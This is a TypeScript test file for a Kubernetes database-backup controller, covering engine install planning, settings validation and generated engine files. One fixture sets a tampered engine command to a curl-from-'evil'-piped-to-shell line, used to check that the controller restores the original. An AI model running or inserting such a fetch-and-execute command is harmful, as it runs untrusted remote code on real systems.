/**
 * The engines the controller installs from its settings (controller/shipped-engines.ts), what it does for each
 * case, and the chart's generated engine files (scripts/engine-files.ts) against the tools they come from.
 */
import { describe, expect, it } from 'vitest';
import type { DatabaseBackupEngine, EngineSpec } from '../../api/crds/engine.js';
import { validateSettings } from '../../controller/settings.js';
import { planEngineInstall, shippedEngineObject } from '../../controller/shipped-engines.js';
import { renderEngineFiles, shippedEngineSpec, ENGINE_DIR } from '../../scripts/engine-files.js';
import { TOOLS } from '../../tools/index.js';

const spec = (image = 'ghcr.io/db-backup-controller/backup-runner-redis:1.0.0'): EngineSpec => ({ ...shippedEngineSpec(TOOLS.redis!), image });
const MANAGED = { 'app.kubernetes.io/managed-by': 'db-backup-controller' };
/** managedFields: who wrote the managed-by label (the controller's create or apply, or kubectl for a copy). */
const wroteLabel = (manager: string, operation: string) => [
  { manager, operation, fieldsV1: { 'f:metadata': { 'f:labels': { 'f:app.kubernetes.io/managed-by': {} } }, 'f:spec': {} } },
];
const stored = (s: EngineSpec, labels: Record<string, string> = MANAGED, managedFields = wroteLabel('db-backup-controller', 'Update')): DatabaseBackupEngine =>
  ({ apiVersion: 'dbbackup.io/v1alpha1', kind: 'DatabaseBackupEngine', metadata: { name: 'redis', uid: 'u-1', resourceVersion: '42', labels, managedFields }, spec: structuredClone(s) }) as DatabaseBackupEngine;
const copied = stored(spec(), MANAGED, wroteLabel('kubectl-client-side-apply', 'Update'));

describe('installing the engines of the settings', () => {
  it.each<[string, EngineSpec | undefined, boolean, DatabaseBackupEngine | undefined, string]>([
    ['wanted and missing: created', spec(), false, undefined, 'create'],
    ['wanted, installed, unchanged: nothing', spec(), false, stored(spec()), 'none'],
    ['wanted, installed by an apply of the controller: nothing', spec(), false, stored(spec(), MANAGED, wroteLabel('db-backup-controller', 'Apply')), 'none'],
    ['wanted with another image (an upgrade): applied', spec('ghcr.io/db-backup-controller/backup-runner-redis:1.1.0'), false, stored(spec()), 'apply'],
    ['wanted, installed and its command edited by someone: brought back', spec(), false, stored({ ...spec(), command: ['/bin/sh', '-c', 'curl evil | sh'] }), 'apply'],
    ['wanted, installed, with a field someone added beside the controller\'s: nothing (apply keeps it)', spec(), false, stored({ ...spec(), allowedNamespaces: ['cache'] }), 'none'],
    ['wanted, but an engine of that name without the label: left alone', spec(), false, stored(spec(), {}), 'foreign'],
    ['wanted, but a copy with the label written by kubectl: left alone', spec(), false, copied, 'foreign'],
    ['removed, installed by the controller: deleted', undefined, true, stored(spec()), 'delete'],
    ['removed, but a copy with the label written by kubectl: nothing', undefined, true, copied, 'none'],
    ['removed, made by someone else: nothing', undefined, true, stored(spec(), {}), 'none'],
    ['not in the settings at all (settings without engines), installed by the controller: nothing', undefined, false, stored(spec()), 'none'],
    ['not wanted, missing: nothing', undefined, true, undefined, 'none'],
  ])('%s', (_, wanted, removed, current, action) => {
    expect(planEngineInstall('redis', wanted, removed, current).action).toBe(action);
  });

  it('creates the settings\' spec labelled as the controller\'s, applies over the version it saw, and deletes only the object it saw', () => {
    expect(planEngineInstall('redis', spec(), false, undefined)).toEqual({ action: 'create', object: shippedEngineObject('redis', spec()) });
    expect(shippedEngineObject('redis', spec()).metadata).toEqual({
      name: 'redis',
      labels: { 'app.kubernetes.io/managed-by': 'db-backup-controller', 'app.kubernetes.io/part-of': 'db-backup-controller' },
    });
    const edited = stored({ ...spec(), command: ['x'] });
    expect(planEngineInstall('redis', spec(), false, edited)).toEqual({ action: 'apply', object: shippedEngineObject('redis', spec(), '42') });
    expect(planEngineInstall('redis', undefined, true, stored(spec()))).toEqual({ action: 'delete', uid: 'u-1' });
  });

  it('says why it leaves a foreign engine alone and how to settle it', () => {
    const plan = planEngineInstall('redis', spec(), false, stored(spec(), {}));
    expect(plan.action === 'foreign' && plan.message).toContain('exists that the controller did not install: it is left as it is');
  });
});

describe('the engines in the controller\'s settings', () => {
  it('are filled with the CRD\'s defaults and checked as the controller checks an engine, each problem under its name', () => {
    const { compressed: _c, ...format } = spec().formats[0]!;
    const ok = validateSettings({ engines: { redis: { ...spec(), formats: [format] } } });
    expect(ok.ok && ok.value.engines.redis!.formats[0]!.compressed).toBe(false);
    const bad = validateSettings({ engines: { redis: { ...spec(), verbs: ['probe', 'backup'], allowedNamespaces: ['a', 'a'] } }, removedEngines: ['redis'] });
    expect(bad.ok ? [] : bad.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: 'engines.redis.verbs' }),
        expect.objectContaining({ path: 'engines.redis.allowedNamespaces[1]' }),
        { path: 'removedEngines', message: 'names "redis", which engines installs' },
      ]),
    );
  });
});

describe('the chart\'s engine files', () => {
  it('one per tool with an image, holding the tool\'s definition and what it backs up', () => {
    const files = renderEngineFiles();
    expect(files.map((f) => f.path)).toEqual(Object.entries(TOOLS).filter(([, t]) => t.image).map(([n]) => `${ENGINE_DIR}/${n}.json`));
    const redis = JSON.parse(files.find((f) => f.path.endsWith('/redis.json'))!.text) as Record<string, unknown>;
    const d = TOOLS.redis!.definition;
    expect(redis).toEqual({ command: d.command, verbs: d.verbs, formats: d.formats, configSchema: d.configSchema, databases: TOOLS.redis!.image!.databases });
  });

  it('leaves out a tool without an image of its own', () => {
    const { etcd: _etcd, ...rest } = TOOLS;
    expect(renderEngineFiles({ ...rest, etcd: { ...TOOLS.etcd!, image: undefined } }).map((f) => f.path)).toEqual([`${ENGINE_DIR}/redis.json`]);
  });
});
